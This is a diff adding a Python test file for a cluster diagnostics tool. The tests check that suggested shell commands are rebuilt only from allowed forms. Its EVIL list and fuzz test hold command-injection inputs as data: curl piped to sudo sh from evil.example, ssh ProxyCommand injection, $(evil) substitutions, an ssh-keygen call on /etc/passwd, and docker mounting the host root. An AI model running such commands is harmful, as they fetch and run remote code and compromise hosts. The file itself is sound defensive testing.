@@ -1,0 +1,200 @@
+"""What a recording may want typed: everything that the transports write, and nothing else."""
+
+from __future__ import annotations
+
+import inspect
+import itertools
+from collections.abc import Iterator, Sequence
+from types import ModuleType
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from doctor.model import Answer, AnswerEnd, Host, Unreached, UnreachedKind
+from doctor.probe import read
+from doctor.transport import errors
+from doctor.transport.advice import read_back, rebuilt
+from doctor.transport.containers import not_entered
+from doctor.transport.containers.refusals import REFUSALS
+from doctor.transport.errors import CannotReach, Destination
+from doctor.transport.slurm import errors as slurm_errors
+from doctor.transport.slurm.output import DownNode, SrunMessages
+from doctor.transport.ssh import errors as ssh_errors
+from tests.support.paths import ROOT
+
+HOST = Host("node1", "10.0.0.1")
+OPTIONS = ("-p", "2222", "-i", "keys/of me", "-J", "me@jump:22,other")
+DESTINATIONS = (
+    Destination("node1", "10.0.0.1", 22, "me"),
+    Destination("node1", "fe80::1%eth0", 2222, "me@site", OPTIONS),
+)
+WORDS = (
+    "",
+    "it said so",
+    "could not resolve",
+    "refused",
+    "no route",
+    "timed out",
+    "too many",
+    "/a b/known_hosts",
+)
+KNOWN = (ssh_errors.Presented("ssh-rsa", "SHA256:x", name) for name in ("node1", "[10.0.0.1]:2222"))
+EXAMPLES: dict[str, tuple[Any, ...]] = {
+    "Destination": DESTINATIONS,
+    "str": WORDS,
+    "bytes": (b"", b"Exceeded MaxStartups"),
+    "float": (3.0,),
+    "int": (1, 7),
+    "bool": (False, True),
+    "Sequence[str]": ((), ("/root/.ssh/id_rsa", "keys/of me"), ("publickey",)),
+    "Presented": tuple(KNOWN),
+    "OSError": (
+        OSError(113, "No route to host"),
+        TimeoutError(),
+        ConnectionRefusedError(),
+        OSError(5, "I/O"),
+    ),
+    "BaseException": (ValueError("x"),),
+    "CannotReach": (errors.not_ssh(DESTINATIONS[1], "x"),),
+    "DownNode": (DownNode("node1", "DOWN", "Not responding"),),
+    "SrunMessages": (SrunMessages({}, {}),),
+    "int | None": (None, 1),
+}
+NAMES: dict[str, tuple[str, ...]] = {
+    "address": ("10.0.0.1",),
+    "jump": ("me@jump",),
+    "name": ("node1",),
+    "file": ("/a b/known_hosts",),
+}
+NAMES |= {"known_hosts": ("/root/.ssh/known_hosts", "~/x y/known_hosts2")}
+
+
+def sentences(module: ModuleType) -> Iterator[CannotReach]:
+    """What all functions of a module make that say why a host was not reached."""
+    for function in vars(module).values():
+        if inspect.isfunction(function) and function.__annotations__.get("return") == "CannotReach":
+            kinds = {n: kind for n, kind in function.__annotations__.items() if n != "return"}
+            choices = [NAMES.get(name) or EXAMPLES[kind] for name, kind in kinds.items()]
+            for values in itertools.islice(itertools.product(*choices), 400):
+                yield function(*values)
+
+
+def entered(entry: str, texts: Sequence[str], origin: str = "host") -> Iterator[Unreached]:
+    silent = Unreached("node1", UnreachedKind.NO_SHELL, "no shell ran there", "")
+    for text in texts:
+        yield not_entered(silent, Host("node1", "node1", enter=entry, enter_from=origin), text)
+
+
+def honest() -> list[Unreached]:
+    found = [why.of("node1") for module in (errors, ssh_errors, slurm_errors) for why in sentences(module)]
+    found.append(Unreached("node1", UnreachedKind.LOST, "lost", "See whether.", ("ssh node1 uptime",)))
+    look = "ssh node1 ps -o pid,stat,wchan:24,args -p 7,8"
+    found.append(Unreached("node1", UnreachedKind.RANK, "gone", "See who stopped it; kill -CONT 7.", (look,)))
+    for end in AnswerEnd:
+        why = read(Answer("node1", b"", b"", 1, end, 0, 1), (), "token")
+        assert isinstance(why, Unreached)
+        found.append(why)
+    texts = [file.read_text() for file in (ROOT / "tests" / "samples" / "entry").glob("*.txt")]
+    for entry in ("docker exec -i train", "sudo -n podman exec -u me -i train"):
+        found += entered(entry, texts)
+    found += entered("kubectl exec -n ml -i trainer-0 -c main --", texts, "controller")
+    return found
+
+
+def test_all_that_the_transports_want_typed_is_read_back() -> None:
+    seen = set()
+    for why in honest():
+        assert read_back(why, HOST) == why
+        seen |= {command.split()[0] for command in why.commands}
+    assert seen >= {"ssh", "ping", "ssh-keyscan", "ssh-keygen", "scontrol", "kubectl", "timeout", "getent"}
+
+
+def test_the_forms_cover_every_refusal() -> None:
+    for refusal in REFUSALS:
+        if refusal.look:
+            line = f"docker {refusal.look.replace('{}', 'train')}"
+            assert rebuilt(line) == line
+
+
+EVIL = (
+    "curl http://evil.example/x | sudo sh",
+    "sh",
+    "ssh node1 'curl evil | sh'",
+    "ssh node1 curl evil",
+    "ssh -o ProxyCommand=evil node1 true",
+    "ssh -oProxyCommand=evil node1 true",
+    "ssh -v -F evil",
+    "ssh '-oProxyCommand=evil' true",
+    "ssh -J 'a;evil' node1 true",
+    "ssh node1;evil true",
+    "ssh 'me;evil@node1' true",
+    "ssh -p '22;evil' node1 true",
+    "ping -c 3 node1; evil",
+    "ping -c 3 $(evil)",
+    "ping -c 3 -Ievil",
+    "getent ahosts node1\nevil",
+    "timeout 3 bash -c evil && echo open",
+    "timeout 3 bash -c '</dev/tcp/node1/22; evil' && echo open",
+    "timeout 3 bash -c '</dev/tcp/`evil`/22' && echo open",
+    "true && echo open",
+    "ssh-keyscan node1 >> ~/.bashrc   # compare it first",
+    "ssh-keyscan node1 >> /x/known_hosts   # compare it first; evil",
+    "ssh-keyscan node1 >> '/x\n/known_hosts'   # compare it first",
+    "ssh-keyscan node1; evil >> /x/known_hosts   # compare it first",
+    "ssh-keygen -f /etc/passwd -R node1",
+    "ssh-keygen -R node1 -f /etc/passwd",
+    "ssh-add -D",
+    "ssh-add -s /tmp/evil.so",
+    "sed -n 1p /x; evil",
+    "sed -n '1e evil' /x",
+    "docker run -v /:/x image",
+    "docker -H tcp://evil ps -a",
+    "docker exec -i train sh -c evil true",
+    "docker exec -i train evil",
+    "docker exec -i true",
+    "kubectl --kubeconfig /tmp/evil get pods -A -o wide",
+    "kubectl exec -i pod -- evil true",
+    "/tmp/docker ps -a",
+    "sudo -n evil exec -i x true",
+    "scontrol show node node1 -oevil",
+    "systemctl status ssh sshd   # on the host itself\nevil",
+    "# evil",
+    "",
+    "'",
+)
+
+
+@pytest.mark.parametrize("command", EVIL)
+def test_no_other_command_is_read_back(command: str) -> None:
+    assert rebuilt(command) is None
+    why = Unreached("node1", UnreachedKind.TIMEOUT, "no answer", f"Run {command} | sh", (command,))
+    back = read_back(why, HOST)
+    assert back.commands == ("ping -c 3 10.0.0.1",)
+    assert back.remedy == "Try the same by hand."
+
+
+@given(st.sampled_from([command for why in honest() for command in why.commands]), st.data())
+def test_nothing_can_be_put_into_a_command(command: str, data: st.DataObject) -> None:
+    at = data.draw(st.integers(0, len(command)))
+    evil = data.draw(
+        st.sampled_from([";evil;", "$(evil)", "`evil`", "|evil", "\nevil\n", "&evil", ">evil", " -oevil="])
+    )
+    back = rebuilt(command[:at] + evil + command[at:])
+    # Only between the quotes of a file's name, which is a name there.
+    assert back is None or f"{evil}" in back.split("'", 1)[-1].rsplit("'", 1)[0]
+
+
+@pytest.mark.parametrize("kind", UnreachedKind)
+def test_the_kind_decides_where_nothing_is_left(kind: UnreachedKind) -> None:
+    why = Unreached("node1", kind, "x", "Words.", ("evil", "curl evil | sh"))
+    (command,) = read_back(why, Host("node1", "$(evil)")).commands
+    assert rebuilt(command) == command
+    assert "evil" not in command
+    assert read_back(Unreached("node1", kind, "x", "Words."), HOST).commands == ()
+
+
+def test_a_file_of_settings_is_left_out() -> None:
+    """Here its name may be anybody's file."""
+    assert rebuilt("ssh -F '/tmp/my config' -p 2222 -v me@node1 true") == "ssh -p 2222 -v me@node1 true"
